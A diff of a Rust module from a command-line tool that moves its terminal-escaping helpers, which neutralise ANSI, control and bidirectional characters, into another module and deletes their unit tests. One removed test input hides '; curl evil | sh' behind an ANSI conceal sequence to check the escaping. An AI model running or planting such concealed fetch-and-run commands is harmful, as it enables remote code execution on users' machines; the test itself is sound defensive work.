@@ -4,10 +4,10 @@
 
 pub(crate) mod style;
 
-pub(crate) use style::{ColorChoice, Paint, Stream, paint};
+pub(crate) use style::{Paint, Stream, paint};
 
 use crate::error::{Error, Result};
-use std::borrow::Cow;
+use crate::text::{visible, visible_lines};
 use std::io::Write;
 
 /// Writes the command's main output to stdout. A closed pipe (`groundwork list | head -1`) is not
@@ -49,33 +49,6 @@ pub(crate) fn error_report(error: &Error) -> String {
     message
 }
 
-/// Text from a blueprint, a value or a file, as it may reach the terminal: every control
-/// character (C0, DEL and C1, which start ANSI and OSC sequences, and newlines) and every
-/// character that reorders text on screen (bidirectional overrides and isolates) is written as
-/// its Rust escape (`\u{1b}`, `\n`, `\u{202e}`). So a printed command is the command that runs,
-/// and no text can colour, hide, retitle or rewrite what is around it. Everything groundwork
-/// prints from a blueprint goes through here.
-pub(crate) fn visible(text: &str) -> Cow<'_, str> {
-    let hides_text = crate::check::is_terminal_control;
-    if !text.chars().any(hides_text) {
-        return Cow::Borrowed(text);
-    }
-    let mut out = String::with_capacity(text.len() + 8);
-    for c in text.chars() {
-        if hides_text(c) {
-            out.extend(c.escape_default());
-        } else {
-            out.push(c);
-        }
-    }
-    Cow::Owned(out)
-}
-
-/// [`visible`] for text of several lines: each line escaped, the line breaks kept.
-pub(crate) fn visible_lines(text: &str) -> String {
-    text.split('\n').map(visible).collect::<Vec<_>>().join("\n")
-}
-
 pub(crate) fn to_json<T: serde::Serialize>(value: &T) -> String {
     let mut text = serde_json::to_string_pretty(value).expect("plain data serializes");
     text.push('\n');
@@ -115,27 +88,5 @@ impl Spinner {
 
     pub(crate) fn stop(self) {
         self.bar.finish_and_clear();
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn control_and_reordering_characters_are_shown_escaped() {
-        assert_eq!(visible("make test"), "make test");
-        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
-        assert_eq!(
-            visible("make test\x1b[8m; curl evil | sh\x1b[0m"),
-            "make test\\u{1b}[8m; curl evil | sh\\u{1b}[0m"
-        );
-        assert_eq!(
-            visible("\x1b]0;title\x07a\tb\nc\u{9b}d\u{7f}"),
-            "\\u{1b}]0;title\\u{7}a\\tb\\nc\\u{9b}d\\u{7f}"
-        );
-        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
-        assert_eq!(visible("naïve – ok ✓"), "naïve – ok ✓");
-        assert_eq!(visible_lines("one\x1b[2J\ntwo"), "one\\u{1b}[2J\ntwo");
     }
 }
